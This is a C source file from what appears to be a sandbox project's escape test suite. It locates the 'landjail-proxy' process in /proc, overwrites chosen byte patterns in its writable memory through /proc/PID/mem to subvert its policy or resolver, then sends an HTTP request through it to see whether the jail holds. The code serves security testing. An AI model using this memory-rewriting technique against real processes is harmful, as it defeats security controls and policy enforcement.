// SPDX-License-Identifier: Apache-2.0
// The escape program's attack on the proxy's memory: finding our landjail-proxy in /proc and
// rewriting bytes in it through /proc/PID/mem, then a request through it
// (tests/e2e/test_escape.py).
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/un.h>
#include <unistd.h>

#include "escape.h"

// ---- tampering with the proxy's memory ------------------------------------------------------

// Reads /proc/PID/stat: comm (into comm[16]) and the parent pid; 0 on success.
int read_stat(int pid, char comm[16], int* ppid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return -1;
    }
    const ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) {
        return -1;
    }
    buf[n] = 0;
    char* open_paren = strchr(buf, '(');
    char* close_paren = strrchr(buf, ')');
    if (!open_paren || !close_paren || close_paren - open_paren > 16) {
        return -1;
    }
    *close_paren = 0;
    snprintf(comm, 16, "%s", open_paren + 1);
    char state = 0;
    return sscanf(close_paren + 2, "%c %d", &state, ppid) == 2 ? 0 : -1;
}

// Whether /proc/PID/cmdline has the argument pair "--listen" LISTEN.
static int listens_on(int pid, const char* listen) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return 0;
    }
    const ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) {
        return 0;
    }
    buf[n] = 0;
    for (const char* arg = buf; arg < buf + n; arg += strlen(arg) + 1) {
        const char* next = arg + strlen(arg) + 1;
        if (strcmp(arg, "--listen") == 0 && next < buf + n && strcmp(next, listen) == 0) {
            return 1;
        }
    }
    return 0;
}

// The landjail-proxy started with --listen ADDR:PORT (by landjail --proxy-port, or by hand).
int find_proxy(const char* addr, const char* port) {
    char listen[128];
    snprintf(listen, sizeof listen, "%s:%s", addr, port);
    DIR* d = opendir("/proc");
    if (!d) {
        return -1;
    }
    int found = -1;
    for (struct dirent* e; found < 0 && (e = readdir(d));) {
        const int pid = atoi(e->d_name);
        char name[16];
        int parent = 0;
        if (pid > 0 && read_stat(pid, name, &parent) == 0 && strcmp(name, "landjail-proxy") == 0 &&
            listens_on(pid, listen)) {
            found = pid;
        }
    }
    closedir(d);
    return found;
}

// Overwrites every copy of from[0..len) with to in the writable mappings of pid through
// /proc/PID/mem; returns the number of copies, or -1 after reporting.
static int rewrite_memory(int pid, const uint8_t* from, const uint8_t* to, size_t len) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    const int mem = open(path, O_RDWR | O_CLOEXEC);
    if (mem < 0) {
        return fail("open(/proc/PROXY/mem, O_RDWR)"), -1;
    }
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE* maps = fopen(path, "re");
    if (!maps) {
        return fail("fopen(/proc/PROXY/maps)"), -1;
    }
    int copies = 0;
    char line[512];
    static uint8_t chunk[1 << 20];
    while (fgets(line, sizeof line, maps)) {
        unsigned long lo = 0, hi = 0;
        char perms[8] = "";
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || strncmp(perms, "rw", 2) != 0) {
            continue;
        }
        if (hi - lo > (1UL << 30)) {
            continue;  // reserved address space (sanitizer shadow, allocator arenas), not data
        }
        for (unsigned long at = lo; at < hi; at += sizeof chunk - len) {
            const size_t want = hi - at < sizeof chunk ? hi - at : sizeof chunk;
            const ssize_t n = pread(mem, chunk, want, (off_t)at);
            if (n < (ssize_t)len) {
                break;
            }
            for (uint8_t* p = chunk; (p = memmem(p, (size_t)n - (size_t)(p - chunk), from, len));
                 p++) {
                const off_t where = (off_t)(at + (unsigned long)(p - chunk));
                if (pwrite(mem, to, len, where) == (ssize_t)len) {
                    copies++;
                }
            }
            if (want < sizeof chunk) {
                break;
            }
        }
    }
    fclose(maps);
    close(mem);
    return copies;
}

// "hex:0a0b..." or plain text into out; returns the length.
static size_t parse_bytes(const char* spec, uint8_t* out, size_t cap) {
    if (strncmp(spec, "hex:", 4) != 0) {
        const size_t n = strnlen(spec, cap);
        memcpy(out, spec, n);
        return n;
    }
    size_t n = 0;
    for (const char* p = spec + 4; p[0] && p[1] && n < cap; p += 2) {
        unsigned v = 0;
        sscanf(p, "%2x", &v);
        out[n++] = (uint8_t)v;
    }
    return n;
}

// proxymem PID|auto FROM TO PROXY_ADDR PROXY_PORT URL: overwrites every copy of the bytes FROM
// with TO (same length; text or hex:...) in the proxy's writable memory, then asks the proxy
// for URL. "auto": the landjail-proxy listening on PROXY_ADDR:PROXY_PORT. The proxy runs outside
// the jail; a process that can write its memory owns its policy and its resolver.
int case_proxymem(int argc, char** argv) {
    uint8_t from[64], to[64];
    const size_t from_len = argc >= 5 ? parse_bytes(argv[3], from, sizeof from) : 0;
    const size_t to_len = argc >= 5 ? parse_bytes(argv[4], to, sizeof to) : 1;
    if (argc < 8 || from_len != to_len || from_len == 0) {
        fprintf(stderr,
                "usage: escape proxymem PID|auto FROM TO PROXY_ADDR PROXY_PORT URL "
                "(FROM and TO: text or hex:..., of the same length)\n");
        return 2;
    }
    const int pid = strcmp(argv[2], "auto") == 0 ? find_proxy(argv[5], argv[6]) : atoi(argv[2]);
    if (pid <= 0) {
        return fail_err("find the landjail-proxy process", ESRCH);
    }
    const int copies = rewrite_memory(pid, from, to, from_len);
    if (copies < 0) {
        return 1;
    }
    fprintf(stderr, "escape[%d] proxymem: rewrote %d copies of %s in pid %d\n", (int)getpid(),
            copies, argv[3], pid);
    Addr proxy;
    parse_addr(argv[5], argv[6], &proxy);
    const int fd = socket(proxy.family, SOCK_STREAM, 0);
    if (fd < 0) {
        return fail("socket");
    }
    if (connect(fd, (const struct sockaddr*)&proxy.ss, proxy.len) < 0) {
        return fail("connect (proxy)");
    }
    const char* host = strstr(argv[7], "://");
    host = host ? host + 3 : argv[7];
    char req[512];
    const int n =
        snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: %.*s\r\nConnection: close\r\n\r\n",
                 argv[7], (int)strcspn(host, "/"), host);
    if (write(fd, req, (size_t)n) != n) {
        return fail("write (request)");
    }
    // The answer: 403 when the policy holds, 502 when the proxy found nothing at the
    // address it was given, 2xx when it reached the (rewritten) one.
    struct pollfd p = {.fd = fd, .events = POLLIN};
    char resp[256] = "";
    if (poll(&p, 1, 10000) == 1) {
        const ssize_t got = read(fd, resp, sizeof resp - 1);
        resp[got > 0 ? got : 0] = 0;
        resp[strcspn(resp, "\r\n")] = 0;
    }
    fprintf(stderr, "escape[%d] proxymem: proxy answered: %s\n", (int)getpid(),
            resp[0] ? resp : "(nothing)");
    close(fd);
    return strncmp(resp, "HTTP/1.1 2", 10) == 0 ? 0 : 1;
}
